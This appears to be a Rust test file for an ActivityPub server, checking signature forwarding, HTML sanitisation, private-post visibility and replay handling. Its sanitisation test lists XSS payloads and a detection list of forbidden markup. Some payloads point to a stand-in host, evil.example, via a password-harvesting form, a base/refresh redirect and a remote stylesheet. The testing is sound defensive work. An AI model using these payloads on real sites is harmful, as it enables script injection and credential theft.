//! M49 to M52: content, JSON-LD, visibility, replay.

use comity_model::{Audience, State};
use comity_signatures::Scheme;
use comity_tests::peer::{AS2, PUBLIC};
use serde_json::{Value, json};

use crate::stories;
use crate::world::{SCHEMES, World};

stories! {
    m49_a_linked_data_signature_that_was_forwarded,
    m50_content_that_would_act,
    m51_what_was_sent_to_the_office_alone,
    m52_replays,
}

async fn m49_a_linked_data_signature_that_was_forwarded(world: &mut World) {
    for scheme in SCHEMES {
        let number = world.next();
        let mut create = world.victim.create(number, "an old text");
        create["signature"] = json!({
            "type": "RsaSignature2017", "creator": world.victim.key_id(), "created": "2026-04-14T07:00:00Z", "signatureValue": "YWJj",
        });
        let message = world.signed_as(scheme, &world.evil, &world.evil.key_id(), create.to_string());
        world.refuses("M49 unchanged", &message, &[(401, "origin")]).await;
        create["@context"] = json!(["https://www.w3.org/ns/activitystreams", { "content": "as:summary", "actor": "@nest" }]);
        let message = world.signed_as(scheme, &world.evil, &world.evil.key_id(), create.to_string());
        world.refuses("M49 under another context", &message, &[(401, "origin"), (400, "shape")]).await;
        let graph = json!({ "@context": "https://www.w3.org/ns/activitystreams", "@graph": [create] });
        let message = world.signed_as(scheme, &world.evil, &world.evil.key_id(), graph.to_string());
        world.refuses("M49 in a graph", &message, &[(400, "shape")]).await;
        // In an Announce only what its own server says counts, and that has nothing of the kind.
        let number = world.next();
        let announce = world.evil.activity(number, "Announce", create);
        world.ignores(4, "M49 in an Announce", &world.signed(scheme, &world.evil, &announce)).await;
    }
}

async fn m50_content_that_would_act(world: &mut World) {
    let contents = [
        "<script>alert(1)</script>".to_owned(),
        "<img src=x onerror=alert(1)>".to_owned(),
        "<a href=\"javascript:alert(1)\">x</a>".to_owned(),
        "<a href=\" java\nscript:alert(1)\">x</a>".to_owned(),
        "<a href=\"data:text/html,x\">x</a>".to_owned(),
        "<svg onload=alert(1)><script>alert(1)</script></svg>".to_owned(),
        "<math><mi//xlink:href=\"data:x,alert(1)\">".to_owned(),
        "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x>".to_owned(),
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe><object data=x></object><embed src=x>".to_owned(),
        "<form action=//evil.example/><input name=password><button>go</button></form>".to_owned(),
        "<base href=//evil.example/><meta http-equiv=refresh content=\"0;url=//evil.example/\">".to_owned(),
        "<p style=\"position:fixed\" id=main class=\"button primary\" onclick=alert(1)>x</p>".to_owned(),
        "<noscript><p title=\"</noscript><script>alert(1)</script>\">".to_owned(),
        "<textarea><script>alert(1)</script></textarea><template><script>alert(1)</script></template>".to_owned(),
        "<b>".repeat(80_000),
    ];
    let forbidden = [
        "<script",
        "<svg",
        "<math",
        "<style",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<button",
        "<base",
        "<meta",
        "<link",
        "javascript:",
        "data:text",
        "onerror",
        "onload",
        "onclick",
        "style=",
        "srcdoc",
        "id=\"main\"",
    ];
    for (number, content) in contents.into_iter().enumerate() {
        let scheme = SCHEMES[number % 2];
        let number = world.next();
        let mut create = world.evil.create(number, "hi");
        create["object"]["content"] = json!(content);
        create["object"]["name"] = json!(format!("Note {number} {}", content.chars().take(60).collect::<String>()));
        let answer = world.send(&world.signed(scheme, &world.evil, &create)).await;
        assert_eq!((answer.status, answer.code.as_str()), (202, ""), "M50 {content:.80} {:?}", String::from_utf8_lossy(&answer.body));
        world.settle().await;
        let shown = world.shown(create["object"]["id"].as_str().unwrap()).await.unwrap();
        let found: Vec<_> = forbidden.iter().filter(|bad| unescaped(&shown).contains(**bad)).collect();
        assert!(found.is_empty(), "M50: {found:?} in {shown}");
        let post = world.node.holds(&create["object"]["id"].as_str().unwrap().parse().unwrap()).await.unwrap().unwrap();
        let page = world.send(&crate::world::get(&format!("/practices/{}", post.id), "text/html")).await;
        assert_eq!(page.status, 200, "M50");
        assert!(page.head.to_lowercase().contains("content-security-policy: default-src 'none'"), "M50: {}", page.head);
        let body = String::from_utf8_lossy(&page.body);
        assert!(!body.contains("alert(1)</script>") && !body.contains("onerror=alert"), "M50 in the page");
    }
    let number = world.next();
    let mut create = world.evil.create(number, "hi");
    create["object"]["content"] = json!("<a href=\"https://evil.example/\">https://victim.example/results</a>");
    assert_eq!(world.send(&world.signed(Scheme::Cavage, &world.evil, &create)).await.status, 202);
    world.settle().await;
    let shown = world.shown(create["object"]["id"].as_str().unwrap()).await.unwrap();
    assert!(shown.contains("evil.example"), "M50: the link shows where it leads: {shown}");
    world.honest("M50").await;
}

/// The markup of an HTML text: what is written as text does not act.
fn unescaped(html: &str) -> String {
    let tags: Vec<&str> = html.split('<').skip(1).filter_map(|tag| tag.split_once('>')).map(|(tag, _)| tag).collect();
    format!("<{}>", tags.join("><")).to_lowercase()
}

async fn m51_what_was_sent_to_the_office_alone(world: &mut World) {
    let office = world.node.base.office().to_string();
    let number = world.next();
    let mut create = world.victim.create(number, "for the office alone, CANARY-51");
    create["to"] = json!([office]);
    create["object"]["to"] = json!([office]);
    create["object"]["name"] = json!("CANARY-51");
    assert_eq!(world.send(&world.signed(Scheme::Cavage, &world.victim, &create)).await.status, 202);
    world.settle().await;
    let id = create["object"]["id"].as_str().unwrap().to_owned();
    let post = world.node.holds(&id.parse().unwrap()).await.unwrap().unwrap();
    assert_eq!(post.audience, Audience::Followers, "M51 (a): not public");
    // (b) the same object, as another sends it to everybody.
    for scheme in SCHEMES {
        let mut object = create["object"].clone();
        object["to"] = json!([PUBLIC]);
        object["updated"] = json!("2026-04-14T08:30:00Z");
        for kind in ["Create", "Update"] {
            let number = world.next();
            let activity = world.evil.activity(number, kind, object.clone());
            let answer = world.send(&world.signed(scheme, &world.evil, &activity)).await;
            assert_eq!((answer.status, answer.code.as_str()), (403, "authority"), "M51 (b)");
        }
        let number = world.next();
        let announce = world.evil.activity(number, "Announce", object);
        assert_eq!(world.send(&world.signed(scheme, &world.evil, &announce)).await.status, 202);
        world.settle().await;
        let held = world.node.holds(&id.parse().unwrap()).await.unwrap().unwrap();
        assert_eq!(held.audience, Audience::Followers, "M51 (b)");
    }
    // (c) nobody but the staff reads it, under any address.
    for path in [
        format!("/others/{}", post.id),
        format!("/practices/{}", post.id),
        format!("/ap/replies/{}", post.id),
        format!("/ap/practices/{}", post.id),
    ] {
        for accept in ["text/html", AS2] {
            let answer = world.send(&crate::world::get(&path, accept)).await;
            assert_eq!(answer.status, 404, "M51 (c) {path} {accept}");
        }
        for scheme in SCHEMES {
            for peer in [&world.stranger, &world.evil, &world.good] {
                let answer = world.send(&world.signed_get(scheme, peer, &path)).await;
                assert_eq!(answer.status, 404, "M51 (c) {path} signed by {}", peer.origin);
            }
        }
    }
    for path in ["/", "/feed.atom", "/practices", "/events", "/events.ics", "/offices", "/ap/office/outbox?page=true"] {
        let answer = world.send(&crate::world::get(path, "*/*")).await;
        assert!(!String::from_utf8_lossy(&answer.body).contains("CANARY-51"), "M51 (c) {path}");
    }
    // (d) how many follow, and not who.
    let followers = world.send(&crate::world::get("/ap/office/followers", AS2)).await;
    let followers: Value = serde_json::from_slice(&followers.body).unwrap();
    assert!(followers["totalItems"].is_number() && followers.get("orderedItems").is_none() && followers.get("first").is_none(), "M51 (d)");
    world.honest("M51").await;
}

async fn m52_replays(world: &mut World) {
    for scheme in SCHEMES {
        let number = world.next();
        let create = world.evil.create(number, "once");
        let message = world.signed(scheme, &world.evil, &create);
        let before = world.node.acts("post.receive").await.unwrap();
        let address = world.node.address;
        let sent: Vec<_> = (0..100)
            .map(|_| {
                tokio::spawn({
                    let message = message.clone();
                    async move { message.send(address).await.status }
                })
            })
            .collect();
        for status in sent {
            assert_eq!(status.await.unwrap(), 202, "M52: the same is taken once and acknowledged each time");
        }
        world.settle().await;
        assert_eq!(world.node.acts("post.receive").await.unwrap(), before + 1, "M52: one effect");
        let mut other = create.clone();
        other["object"]["content"] = json!("<p>twice</p>");
        world.refuses("M52 other bytes under the same id", &world.signed(scheme, &world.evil, &other), &[(409, "replay")]).await;

        // An older state after a newer one.
        let update = |world: &mut World, content: &str, at: &str| {
            let mut object = create["object"].clone();
            object["content"] = json!(format!("<p>{content}</p>"));
            object["updated"] = json!(at);
            let number = world.next();
            world.evil.activity(number, "Update", object)
        };
        world.clock.advance(chrono::TimeDelta::hours(1));
        let newer = update(world, "newer", "2026-04-14T08:50:00Z");
        let older = update(world, "older", "2026-04-14T08:40:00Z");
        for activity in [newer, older] {
            assert_eq!(world.send(&world.signed(scheme, &world.evil, &activity)).await.status, 202);
            world.settle().await;
        }
        let id = create["object"]["id"].as_str().unwrap().to_owned();
        let shown = world.shown(&id).await.unwrap();
        assert_eq!(shown, "<p>newer</p>", "M52: the newer state stays");

        // A Create after the Delete of the same id.
        let number = world.next();
        let delete = world.evil.activity(number, "Delete", json!({ "id": id, "type": "Tombstone" }));
        let number = world.next();
        let again = world.evil.activity(number, "Create", create["object"].clone());
        for activity in [delete, again] {
            assert_eq!(world.send(&world.signed(scheme, &world.evil, &activity)).await.status, 202);
            world.settle().await;
        }
        let held = world.node.holds(&id.parse().unwrap()).await.unwrap().unwrap();
        assert_eq!((held.state, held.html.as_str()), (State::Withdrawn, ""), "M52: it stays deleted");

        // The Undo of a Follow, sent once more after a new Follow.
        let office = world.node.base.office().to_string();
        let number = world.next();
        let follow = world.evil.activity(number, "Follow", json!(office));
        let number = world.next();
        let undo = world.signed(scheme, &world.evil, &world.evil.activity(number, "Undo", follow.clone()));
        let number = world.next();
        let follow_again = world.evil.activity(number, "Follow", json!(office));
        for message in [world.signed(scheme, &world.evil, &follow), undo.clone(), world.signed(scheme, &world.evil, &follow_again), undo] {
            assert_eq!(world.send(&message).await.status, 202);
            world.settle().await;
        }
        let followers = world.node.app().read().followers().await.unwrap();
        let evil = world.evil.actor();
        assert!(followers.iter().any(|follower| follower.actor.as_str() == evil && follower.until_seq.is_none()), "M52: it still follows");
    }
    world.honest("M52").await;
}
